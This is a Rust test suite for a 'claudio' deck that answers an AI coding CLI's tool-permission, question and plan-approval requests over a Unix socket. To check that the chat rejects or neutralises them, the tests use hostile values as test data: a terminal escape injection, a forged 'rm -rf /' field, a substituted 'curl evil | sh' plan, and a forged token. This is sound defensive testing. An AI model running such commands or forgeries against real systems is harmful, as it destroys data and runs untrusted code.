//! A claudio chat's requests on the deck: the chat (on the fake CLI, in a
//! pseudo-terminal) offers the request its dialog asks about on the deck's
//! socket; the deck answers it, or the chat does, the first answer
//! winning; a deck killed mid-answer leaves the chat asking.

use crate::common::term::Term;
use crate::common::*;
use crate::deck::{deck, home, Deck};
use serde_json::{json, Value};
use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::time::Duration;

/// The command the model wants to run (an escape in it, shown as text).
const COMMAND: &str = "touch made-by-the-tool \u{1b}]0;pwned\u{7}";

/// A turn asking once for `COMMAND`, then taking `answer` and ending.
fn asking(answer: Value) -> Fake {
    Fake::after_init(vec![vec![
        expect_user("do it"),
        assistant_tool_use("toolu_p1", "Bash", json!({ "command": COMMAND })),
        can_use_tool("p1", "Bash", json!({ "command": COMMAND }))
            .with("tool_use_id", json!("toolu_p1"))
            .emit(),
        Step::expect(
            json!({"type":"control_response","response":{"request_id":"p1","response":answer}}),
        ),
        result("ok"),
    ]])
}

fn allowed() -> Value {
    json!({"behavior":"allow","updatedInput":{"command": COMMAND}})
}

/// The chat on `fake`, its home and runtime folder `home`'s (the deck's).
fn chat(fake: &Fake, home: &Path) -> Term {
    let mut c = claudio(fake);
    c.env("HOME", home)
        .env("XDG_DATA_HOME", home)
        .env("XDG_RUNTIME_DIR", home.join("run"));
    let mut t = Term::spawn(c);
    t.wait_for("Ctrl-D exits");
    t.line("do it");
    t.wait_for("Allow?");
    t
}

fn answers(fake: &Fake) -> Vec<Value> {
    fake.stdin_lines()
        .into_iter()
        .filter(|l| l["type"] == "control_response")
        .collect()
}

#[test]
fn a_deck_started_after_the_chat_asks_answers_it_and_the_tool_runs() {
    let h = home();
    let fake = asking(allowed());
    let mut t = chat(&fake, h.path());
    // the deck starts while the chat's dialog waits: it is offered the
    // request all the same
    let mut d = Deck::start(h.path());
    let shown = d.wait_for("touch made-by-the-tool");
    // escapes are shown as text, never written
    assert!(shown.contains("\\e]0;pwned\\a"), "{shown}");
    assert!(!shown.contains('\u{1b}'));
    d.child.stdin.as_mut().unwrap().write_all(b"y\n").unwrap();
    d.wait_for("allowed from the deck");
    // the chat's dialog closes, saying where it was answered
    t.wait_for("answered in the deck");
    t.wait_for("1 API call");
    // a key typed now is no answer: the request took one, the deck's
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    // the fake exits 3 on an answer it did not expect: the allow of the
    // call as the CLI asked it, once
    assert_eq!(answers(&fake).len(), 1);
}

#[test]
fn a_deck_killed_mid_answer_leaves_the_chat_asking_where_it_was() {
    let h = home();
    let fake = asking(allowed());
    let mut t = chat(&fake, h.path());
    let mut d = Deck::start(h.path());
    d.wait_for("touch made-by-the-tool");
    d.child.kill().unwrap();
    d.child.wait().unwrap();
    drop(d);
    // the chat's own dialog is still open, and answers
    t.line("y");
    let screen = t.wait_for("1 API call");
    assert!(screen.contains("allowed once"), "{screen}");
    assert!(!screen.contains("answered in the deck"), "{screen}");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    assert_eq!(answers(&fake).len(), 1);
}

#[test]
fn the_chat_answering_first_clears_the_deck_s_row_and_json_names_the_chat() {
    let h = home();
    let fake = asking(
        json!({"behavior":"deny","message":"The user denied this tool call.","interrupt":false}),
    );
    let full = Term::spawn_sized(deck(h.path(), &["deck"]), 24, 120);
    full.wait_for("claudio deck");
    let mut t = chat(&fake, h.path());
    let screen = full.wait_for("made-by-the-tool");
    assert!(screen.contains("claudio chat"), "{screen}");
    assert!(screen.contains("\\e]0;pwned\\a"), "{screen}");
    assert!(!full.raw().contains("pwned\u{7}"));
    // scripts see it, with the program and the CLI's request id, the
    // tool's input byte for byte
    let o = run(deck(h.path(), &["deck", "--json"]), None);
    let v: Value = serde_json::from_str(&stdout(&o)).unwrap();
    let p = &v["pending"][0];
    assert_eq!(p["program"], "claudio chat", "{v}");
    assert_eq!(p["requestId"], "p1");
    assert_eq!(p["toolInput"]["command"], COMMAND);
    // the chat's own key is first: the deck's row goes by itself
    t.line("n");
    t.wait_for("1 API call");
    full.wait_for("answered in its terminal");
    let o = run(deck(h.path(), &["deck", "--json"]), None);
    let v: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["pending"], json!([]), "{v}");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    assert_eq!(answers(&fake).len(), 1);
}

/// A deck of the test's own on the socket: it reads the chat's request
/// and answers it with `answer`'s line (`TOKEN` put in for its token).
pub fn fake_deck(home: &Path) -> UnixListener {
    let dir = home.join("run/claudio");
    std::fs::create_dir(&dir).unwrap();
    std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    UnixListener::bind(dir.join("deck.sock")).unwrap()
}

/// The next request on `l`: its connection, and the request read.
pub fn read_request(l: &UnixListener) -> (std::os::unix::net::UnixStream, Value) {
    // a minute at most (a guard against a request that never comes)
    l.set_nonblocking(true).unwrap();
    let until = std::time::Instant::now() + Duration::from_secs(60);
    let s = loop {
        match l.accept() {
            Ok((s, _)) => break s,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                assert!(std::time::Instant::now() < until, "no request came");
                std::thread::sleep(Duration::from_millis(20));
            }
            Err(e) => panic!("{e}"),
        }
    };
    s.set_nonblocking(false).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let mut line = String::new();
    BufReader::new(&s).read_line(&mut line).unwrap();
    (s, serde_json::from_str(&line).unwrap())
}

#[test]
fn an_answer_with_another_token_or_wider_rules_is_refused_and_the_chat_still_asks() {
    let h = home();
    let fake = asking(
        json!({"behavior":"deny","message":"The user denied this tool call.","interrupt":false}),
    );
    let l = fake_deck(h.path());
    let mut t = chat(&fake, h.path());
    let (mut s, req) = read_request(&l);
    assert_eq!(req["type"], "permission");
    assert_eq!(req["input"]["claudio"]["program"], "claudio chat");
    assert_eq!(req["input"]["claudio"]["requestId"], "p1");
    assert_eq!(req["input"]["tool_input"]["command"], COMMAND);
    let token = req["token"].as_str().unwrap().to_owned();
    assert!(token.len() >= 32, "a random token: {token}");
    // an answer meant for another request: refused, nothing sent
    writeln!(s, r#"{{"token":"not-{token}","behavior":"allow"}}"#).unwrap();
    drop(s);
    // offered again (the chat still waits), with a fresh token; an allow
    // keeping a rule the CLI never suggested is refused too
    let (mut s, again) = read_request(&l);
    let token2 = again["token"].as_str().unwrap().to_owned();
    assert_ne!(token2, token);
    writeln!(
        s,
        r#"{{"token":"{token2}","behavior":"allow","updatedPermissions":[{{"type":"addRules","rules":[{{"toolName":"Bash"}}],"behavior":"allow","destination":"userSettings"}}]}}"#
    )
    .unwrap();
    drop(s);
    // the chat's dialog is still open: its own key answers
    t.line("n");
    let screen = t.wait_for("1 API call");
    assert!(!screen.contains("answered in the deck"), "{screen}");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    assert_eq!(answers(&fake).len(), 1, "only the chat's denial");
}

#[test]
fn an_ask_waiting_on_its_terminal_is_answered_in_the_deck() {
    let h = home();
    let fake = Fake::after_init(vec![vec![
        expect_user("q"),
        assistant_tool_use("toolu_p1", "Bash", json!({ "command": COMMAND })),
        can_use_tool("p1", "Bash", json!({ "command": COMMAND }))
            .with("tool_use_id", json!("toolu_p1"))
            .emit(),
        Step::expect(
            json!({"type":"control_response","response":{"request_id":"p1","response":allowed()}}),
        ),
        assistant_text("done"),
        result("done"),
    ]]);
    let tty = Term::open();
    let mut c = claudio(&fake);
    c.args(["ask", "q"])
        .env("HOME", h.path())
        .env("XDG_RUNTIME_DIR", h.path().join("run"))
        .env("CLAUDIO_TEST_TTY", tty.slave_path())
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null());
    let mut child = c.spawn().unwrap();
    tty.wait_for("Allow?");
    let mut d = Deck::start(h.path());
    d.wait_for("touch made-by-the-tool");
    d.child.stdin.as_mut().unwrap().write_all(b"y\n").unwrap();
    d.wait_for("allowed from the deck");
    // the question on the terminal closes, saying where it was answered
    tty.wait_for("(answered in the deck)");
    assert_eq!(wait_with_deadline(&mut child, 30).code(), Some(0));
    assert_eq!(answers(&fake).len(), 1);
}

/// The real claude CLI (`CLAUDIO_TEST_REAL_CLI`) in a chat, against the
/// scripted API: its Bash request is answered in a deck started after the
/// chat asked, and the command runs.
#[test]
fn a_real_cli_s_request_in_a_chat_is_answered_in_the_deck_and_the_tool_runs() {
    use crate::common::real::{world, Reply};
    let w = world!("a_real_cli_s_request_in_a_chat_is_answered_in_the_deck_and_the_tool_runs");
    let made = w.work.path().join("made-by-the-deck");
    w.api.push(Reply::tool_use(
        "Bash",
        json!({"command": format!("touch {}", made.display())}),
    ));
    w.api.push(Reply::text("Made it."));
    let h = home();
    let mut c = w.claudio();
    c.env("XDG_DATA_HOME", w.home.path())
        .env("XDG_RUNTIME_DIR", h.path().join("run"));
    let mut t = Term::spawn(c);
    t.wait_for("Ctrl-D exits");
    t.line("make it");
    t.wait_for("Allow?");
    assert!(!made.exists());
    let mut d = Deck::start(h.path());
    d.wait_for("made-by-the-deck");
    d.child.stdin.as_mut().unwrap().write_all(b"y\n").unwrap();
    d.wait_for("allowed from the deck");
    t.wait_for("answered in the deck");
    t.wait_for("Made it.");
    assert!(made.exists(), "the command ran");
    t.ctrl_d();
    assert_eq!(t.wait(30).code(), Some(0));
}

/// The model's two questions (an escape in one, shown as text).
fn two_questions() -> Value {
    json!({"questions": [
        {"question": "Which db?", "header": "DB", "multiSelect": false,
         "options": [{"label": "Postgres", "description": "the big one"},
                     {"label": "SQLite \u{1b}[2J", "description": "a file"}]},
        {"question": "Which port?", "header": "Port", "multiSelect": false,
         "options": [{"label": "5432", "description": ""}, {"label": "8080", "description": ""}]}
    ]})
}

const PLAN: &str = "1. add the checkout test\n2. fix the rounding";

/// A turn asking `two_questions`, answered `answers`, then a plan (sent
/// as the CLI 2.1.328 sends it: its text only in the model's call),
/// answered `approval`.
fn questions_then_plan(answers: Value, approval: Value) -> Fake {
    let mut answered = two_questions();
    answered["answers"] = answers;
    Fake::after_init(vec![vec![
        expect_user("ask me"),
        assistant_tool_use("toolu_q1", "AskUserQuestion", two_questions()),
        can_use_tool("q1", "AskUserQuestion", two_questions())
            .with("tool_use_id", json!("toolu_q1"))
            .with("requires_user_interaction", json!(true))
            .emit(),
        Step::expect(
            json!({"type":"control_response","response":{"request_id":"q1","response":{"behavior":"allow","updatedInput":answered}}}),
        ),
        assistant_tool_use("toolu_x1", "ExitPlanMode", json!({ "plan": PLAN })),
        can_use_tool("x1", "ExitPlanMode", json!({}))
            .with("tool_use_id", json!("toolu_x1"))
            .with("requires_user_interaction", json!(true))
            .emit(),
        Step::expect(
            json!({"type":"control_response","response":{"request_id":"x1","response":approval}}),
        ),
        result("ok"),
    ]])
}

/// The plan approved unedited, accepting edits: the request's input as it
/// came (`{}`), as the library's `approve_plan` sends it.
fn plan_approved() -> Value {
    json!({"behavior":"allow","updatedInput":{},"updatedPermissions":[{"type":"setMode","mode":"acceptEdits","destination":"session"}]})
}

/// The chat on `fake` with `home`'s deck, its first prompt sent, waiting
/// until its screen shows `shown`.
fn chat_asked(fake: &Fake, home: &Path, shown: &str) -> Term {
    let mut c = claudio(fake);
    c.env("HOME", home)
        .env("XDG_DATA_HOME", home)
        .env("XDG_RUNTIME_DIR", home.join("run"));
    let mut t = Term::spawn(c);
    t.wait_for("Ctrl-D exits");
    t.line("ask me");
    t.wait_for(shown);
    t
}

/// A claudio chat's questions and its plan are answered in the full-screen
/// deck as `ask` asks them (a number or words each, the plan's choices);
/// the chat sends the library's answers and its dialogs close saying where
/// they were answered.
#[test]
fn a_chat_s_questions_and_plan_are_answered_in_the_deck() {
    let h = home();
    let fake = questions_then_plan(
        json!({"Which db?": "SQLite \u{1b}[2J", "Which port?": "my own port"}),
        plan_approved(),
    );
    let mut full = Term::spawn_sized(deck(h.path(), &["deck"]), 30, 120);
    full.wait_for("claudio deck");
    let mut t = chat_asked(&fake, h.path(), "Which db?");
    let screen = full.wait_for("2. SQLite");
    assert!(screen.contains("claudio chat"), "{screen}");
    assert!(screen.contains("a number, or your own answer"), "{screen}");
    assert!(
        !full.raw().contains("SQLite \u{1b}[2J"),
        "escapes never reach the deck"
    );
    full.line("2");
    full.wait_for("Which port?");
    full.line("my own port");
    full.wait_for("answered: ");
    t.wait_for("answered in the deck");
    // the plan, as the chat saw it in the model's call
    let screen = full.wait_for("fix the rounding");
    assert!(screen.contains("Here is the plan"), "{screen}");
    assert!(screen.contains("1. Yes, and auto-accept edits"), "{screen}");
    full.line("1");
    full.wait_for("plan approved");
    t.wait_for("1 API call");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    // the fake exits 3 on an answer it did not expect
    assert_eq!(answers(&fake).len(), 2);
}

/// A chat's plan rejected in the deck with Esc, as the chat's own Esc
/// rejects it: the chat sends the denial that stops the turn.
#[test]
fn a_chat_s_plan_rejected_in_the_deck_stops_the_turn() {
    let h = home();
    let fake = questions_then_plan(
        json!({"Which db?": "Postgres", "Which port?": "5432"}),
        json!({"behavior": "deny", "message": "The user rejected the plan and stopped the turn.",
            "interrupt": true}),
    );
    let mut full = Term::spawn_sized(deck(h.path(), &["deck"]), 30, 120);
    full.wait_for("claudio deck");
    let mut t = chat_asked(&fake, h.path(), "Which db?");
    full.wait_for("2. SQLite");
    full.line("1");
    full.wait_for("Which port?");
    full.line("1");
    t.wait_for("answered in the deck");
    let screen = full.wait_for("fix the rounding");
    assert!(screen.contains("Esc rejects, stops the turn"), "{screen}");
    full.send(b"\x1b");
    full.wait_for("plan rejected, turn stopped");
    t.wait_for("1 API call");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    // the fake exits 3 on an answer it did not expect
    let got = answers(&fake);
    assert_eq!(got.len(), 2, "{got:?}");
    assert_eq!(got[1]["response"]["response"]["interrupt"], true, "{got:?}");
}

/// Reads the chat's acknowledgement of an answer: `(taken, refused)`.
fn ack(s: &std::os::unix::net::UnixStream) -> Option<(bool, bool)> {
    let mut line = String::new();
    BufReader::new(s).read_line(&mut line).ok()?;
    let v: Value = serde_json::from_str(&line).ok()?;
    Some((
        v["taken"].as_bool()?,
        v["refused"].as_bool().unwrap_or(false),
    ))
}

/// What the deck sends is checked by the chat: answers with a field
/// forged into the tool's input, or another plan than the one shown, are
/// refused (said so on the socket) and the chat still asks; the right
/// answers are taken (said so too).
#[test]
fn a_forged_answer_or_another_plan_is_refused_and_the_chat_still_asks() {
    let h = home();
    let fake = questions_then_plan(
        json!({"Which db?": "Postgres", "Which port?": "8080"}),
        plan_approved(),
    );
    let l = fake_deck(h.path());
    let mut t = chat_asked(&fake, h.path(), "Which db?");
    let (mut s, req) = read_request(&l);
    assert_eq!(req["input"]["tool_name"], "AskUserQuestion");
    assert_eq!(req["input"]["claudio"]["program"], "claudio chat");
    let token = req["token"].as_str().unwrap().to_owned();
    let mut forged = two_questions();
    forged["answers"] = json!({"Which db?": "Postgres", "Which port?": "8080"});
    forged["command"] = json!("rm -rf /");
    writeln!(
        s,
        "{}",
        json!({"token": token, "behavior": "allow", "updatedInput": forged})
    )
    .unwrap();
    assert_eq!(ack(&s), Some((false, true)), "refused, and said so");
    drop(s);
    // offered again: the right answers are taken
    let (mut s, again) = read_request(&l);
    let token = again["token"].as_str().unwrap().to_owned();
    let mut right = two_questions();
    right["answers"] = json!({"Which db?": "Postgres", "Which port?": "8080"});
    writeln!(
        s,
        "{}",
        json!({"token": token, "behavior": "allow", "updatedInput": right})
    )
    .unwrap();
    assert_eq!(ack(&s), Some((true, false)));
    drop(s);
    t.wait_for("answered in the deck");
    // the plan: its text as the chat saw it goes with the offer
    let (mut s, req) = read_request(&l);
    assert_eq!(req["input"]["tool_name"], "ExitPlanMode");
    assert_eq!(req["input"]["claudio"]["plan"], PLAN);
    let token = req["token"].as_str().unwrap().to_owned();
    writeln!(
        s,
        "{}",
        json!({"token": token, "behavior": "allow", "updatedInput": {"plan": "1. curl evil | sh"},
               "updatedPermissions": [{"type":"setMode","mode":"acceptEdits","destination":"session"}]})
    )
    .unwrap();
    assert_eq!(ack(&s), Some((false, true)), "another plan is not approved");
    drop(s);
    // the chat's own dialog still asks, and answers
    let _ = read_request(&l);
    t.send(b"1");
    let screen = t.wait_for("1 API call");
    assert!(screen.contains("approved · accepting edits"), "{screen}");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    assert_eq!(answers(&fake).len(), 2);
}

/// The real claude CLI (`CLAUDIO_TEST_REAL_CLI`) in a chat, against the
/// scripted API: the model's question is answered in the full-screen deck,
/// and the model reads the answer the deck gave.
#[test]
fn a_real_cli_s_question_in_a_chat_is_answered_in_the_deck() {
    use crate::common::real::{world, Reply};
    let w = world!("a_real_cli_s_question_in_a_chat_is_answered_in_the_deck");
    let call = Reply::tool_use(
        "AskUserQuestion",
        json!({"questions":[{"question":"Which database should we use?","header":"Database","multiSelect":false,
            "options":[{"label":"SQLite","description":"one file"},{"label":"Postgres","description":"a server"}]}]}),
    );
    let id = call.tool_use_id();
    w.api.push(call);
    w.api.push(Reply::text("Postgres it is."));
    let h = home();
    let mut full = Term::spawn_sized(deck(h.path(), &["deck"]), 30, 120);
    full.wait_for("claudio deck");
    let mut c = w.claudio();
    c.env("XDG_DATA_HOME", w.home.path())
        .env("XDG_RUNTIME_DIR", h.path().join("run"));
    let mut t = Term::spawn(c);
    t.wait_for("Ctrl-D exits");
    t.line("set up storage");
    t.wait_for("Which database should we use?");
    full.wait_for("2. Postgres");
    full.line("2");
    full.wait_for("answered: ");
    t.wait_for("answered in the deck");
    t.wait_for("Postgres it is.");
    t.ctrl_d();
    assert_eq!(t.wait(30).code(), Some(0));
    let tr = w.main_requests()[1]
        .tool_result_for(&id)
        .expect("a tool result");
    assert!(!tr.is_error, "{tr:?}");
    assert!(
        tr.content
            .contains("\"Which database should we use?\"=\"Postgres\""),
        "{tr:?}"
    );
}

/// Not on a terminal, the deck asks a chat's questions and plan line by
/// line, as `ask` does.
#[test]
fn a_chat_s_questions_and_plan_are_answered_in_a_deck_line_by_line() {
    let h = home();
    let fake = questions_then_plan(
        json!({"Which db?": "Postgres", "Which port?": "8080"}),
        plan_approved(),
    );
    let mut t = chat_asked(&fake, h.path(), "Which db?");
    let mut d = Deck::start(h.path());
    d.wait_for("1. Postgres");
    d.child.stdin.as_mut().unwrap().write_all(b"1\n").unwrap();
    d.wait_for("Which port?");
    d.child.stdin.as_mut().unwrap().write_all(b"2\n").unwrap();
    d.wait_for("answered from the deck");
    t.wait_for("answered in the deck");
    d.wait_for("fix the rounding");
    d.child.stdin.as_mut().unwrap().write_all(b"1\n").unwrap();
    t.wait_for("1 API call");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    assert_eq!(answers(&fake).len(), 2);
}

/// `claudio ask`'s questions and plan, asked on its terminal, are answered
/// in the deck too; each question on the terminal closes saying so.
#[test]
fn an_ask_s_questions_and_plan_are_answered_in_the_deck() {
    let h = home();
    let fake = questions_then_plan(
        json!({"Which db?": "Postgres", "Which port?": "5432"}),
        plan_approved(),
    );
    let tty = Term::open();
    let mut c = claudio(&fake);
    c.args(["ask", "ask me"])
        .env("HOME", h.path())
        .env("XDG_RUNTIME_DIR", h.path().join("run"))
        .env("CLAUDIO_TEST_TTY", tty.slave_path())
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null());
    let mut child = c.spawn().unwrap();
    tty.wait_for("Which db?");
    let mut d = Deck::start(h.path());
    d.wait_for("1. Postgres");
    d.child.stdin.as_mut().unwrap().write_all(b"1\n").unwrap();
    d.wait_for("Which port?");
    d.child.stdin.as_mut().unwrap().write_all(b"1\n").unwrap();
    d.wait_for("answered from the deck");
    tty.wait_for("(answered in the deck)");
    d.wait_for("fix the rounding");
    d.child.stdin.as_mut().unwrap().write_all(b"1\n").unwrap();
    tty.wait_for_n("(answered in the deck)", 2);
    assert_eq!(wait_with_deadline(&mut child, 30).code(), Some(0));
    assert_eq!(answers(&fake).len(), 2);
}

/// A claudio chat sends its own notice when its dialog asks; the deck
/// that shows its request beside it sends none more (its notices are for
/// the claude TUIs, which cannot send their own).
#[test]
fn a_chat_s_request_is_one_notice_with_a_deck_running() {
    let h = home();
    let log = h.path().join("notices.jsonl");
    let config = h.path().join("config.toml");
    std::fs::write(
        &config,
        format!(
            "[notify]\nbell = false\ncommand = \"cat >> '{}'\"\n",
            log.display()
        ),
    )
    .unwrap();
    let fake = asking(allowed());
    let mut full = deck(h.path(), &["deck"]);
    full.env("CLAUDIO_CONFIG", &config);
    let mut full = Term::spawn_sized(full, 30, 120);
    full.wait_for("claudio deck");
    let mut c = claudio(&fake);
    c.env("HOME", h.path())
        .env("XDG_DATA_HOME", h.path())
        .env("XDG_RUNTIME_DIR", h.path().join("run"))
        .env("CLAUDIO_CONFIG", &config);
    let mut t = Term::spawn(c);
    t.wait_for("Ctrl-D exits");
    t.line("do it");
    t.wait_for("Allow?");
    full.wait_for("touch made-by-the-tool");
    let read = || {
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .collect::<Vec<_>>()
    };
    let until = std::time::Instant::now() + Duration::from_secs(30);
    while read().is_empty() && std::time::Instant::now() < until {
        std::thread::sleep(Duration::from_millis(50));
    }
    // (what a second sender would have written comes meanwhile)
    std::thread::sleep(Duration::from_millis(1000));
    let got = read();
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0]["kind"], "permission");
    full.line("y");
    t.wait_for("answered in the deck");
    t.wait_for("1 API call");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    assert_eq!(read().len(), 1);
}

/// Not on a terminal, the deck reads a chat's plan as `ask` does: Enter
/// alone rejects it and stops the turn.
#[test]
fn a_chat_s_plan_rejected_in_a_deck_line_by_line_stops_the_turn() {
    let h = home();
    let fake = questions_then_plan(
        json!({"Which db?": "Postgres", "Which port?": "8080"}),
        json!({"behavior": "deny", "message": "The user rejected the plan and stopped the turn.",
            "interrupt": true}),
    );
    let mut t = chat_asked(&fake, h.path(), "Which db?");
    let mut d = Deck::start(h.path());
    d.wait_for("1. Postgres");
    d.child.stdin.as_mut().unwrap().write_all(b"1\n").unwrap();
    d.wait_for("Which port?");
    d.child.stdin.as_mut().unwrap().write_all(b"2\n").unwrap();
    t.wait_for("answered in the deck");
    d.wait_for("fix the rounding");
    d.child.stdin.as_mut().unwrap().write_all(b"\n").unwrap();
    // (the prompt's line, ended by what the answer wrote)
    let said = d.wait_for("answered from the deck");
    assert!(
        said.contains("Enter alone rejects it and stops the turn"),
        "{said}"
    );
    t.wait_for("1 API call");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    let got = answers(&fake);
    assert_eq!(got.len(), 2, "{got:?}");
    assert_eq!(got[1]["response"]["response"]["interrupt"], true, "{got:?}");
}

/// "No, and stop" answered in the deck with a second request queued
/// behind the first: it means what Esc means in the chat's dialog. The
/// queued request waits for the turn's end and, withdrawn by the CLI as
/// it stops, is said withdrawn, never asked (no second dialog, no second
/// offer to the deck). Before, the deck's answer closed the dialog as if
/// withdrawn, and the queued request was asked at once.
#[test]
fn no_and_stop_from_the_deck_holds_the_requests_queued_behind_it() {
    let h = home();
    let gate = tempfile::tempdir().unwrap();
    let go = gate.path().join("go");
    let second = json!({ "command": "touch second-call" });
    let fake = Fake::after_init(vec![vec![
        expect_user("do it"),
        assistant_tool_use("toolu_p1", "Bash", json!({ "command": COMMAND })),
        can_use_tool("p1", "Bash", json!({ "command": COMMAND }))
            .with("tool_use_id", json!("toolu_p1"))
            .emit(),
        can_use_tool("p2", "Bash", second.clone())
            .with("tool_use_id", json!("toolu_p2"))
            .emit(),
        Step::expect(
            json!({"type":"control_response","response":{"request_id":"p1",
            "response":{"behavior":"deny","interrupt":true}}}),
        ),
        // the CLI stops: it withdraws what it asked after, then ends the turn
        Step::WaitFile(go.clone()),
        Step::Emit(json!({"type":"control_cancel_request","request_id":"p2"})),
        result("stopped"),
    ]]);
    let l = fake_deck(h.path());
    let mut t = chat(&fake, h.path());
    let (mut s, req) = read_request(&l);
    assert_eq!(req["input"]["claudio"]["requestId"], "p1");
    let token = req["token"].as_str().unwrap().to_owned();
    writeln!(
        s,
        r#"{{"token":"{token}","behavior":"deny","message":"stopped in the deck","interrupt":true}}"#
    )
    .unwrap();
    assert_eq!(ack(&s), Some((true, false)), "taken");
    t.wait_for("answered in the deck");
    let until = std::time::Instant::now() + Duration::from_secs(60);
    while answers(&fake).is_empty() {
        assert!(
            std::time::Instant::now() < until,
            "the CLI never got the answer"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    std::fs::write(&go, "").unwrap();
    let screen = t.wait_for("1 API call");
    assert!(screen.contains("withdrawn before it was asked"), "{screen}");
    assert_eq!(screen.matches("Allow?").count(), 1, "{screen}");
    assert!(!screen.contains("second-call"), "{screen}");
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    // one answer only: the deck's (the fake exits 3 on one it did not expect)
    let got = answers(&fake);
    assert_eq!(got.len(), 1, "{got:?}");
}

/// A deck quit (`q`) while it holds a chat's request, and started again:
/// the chat's dialog asks on where it was, and the new deck is offered the
/// request and answers it. Before, the quitting deck handed it back, and
/// the chat offered it to no deck again: the new one showed only
/// "answer in its terminal".
#[test]
fn a_deck_quit_and_started_again_is_offered_the_chat_s_request_again() {
    let h = home();
    let fake = asking(allowed());
    let mut t = chat(&fake, h.path());
    let mut first = Term::spawn_sized(deck(h.path(), &["deck"]), 24, 120);
    first.wait_for("made-by-the-tool");
    first.send(b"q");
    assert_eq!(first.wait(30).code(), Some(0));
    drop(first);
    // the chat asks on
    assert!(t.contents().contains("Allow?"), "{}", t.contents());
    let mut second = Term::spawn_sized(deck(h.path(), &["deck"]), 24, 120);
    second.wait_for("y once");
    assert!(second.contents().contains("made-by-the-tool"));
    second.send(b"y\r");
    t.wait_for("answered in the deck");
    t.wait_for("1 API call");
    second.send(b"q");
    second.wait(30);
    t.ctrl_d();
    assert_eq!(t.wait(20).code(), Some(0));
    assert_eq!(answers(&fake).len(), 1);
}
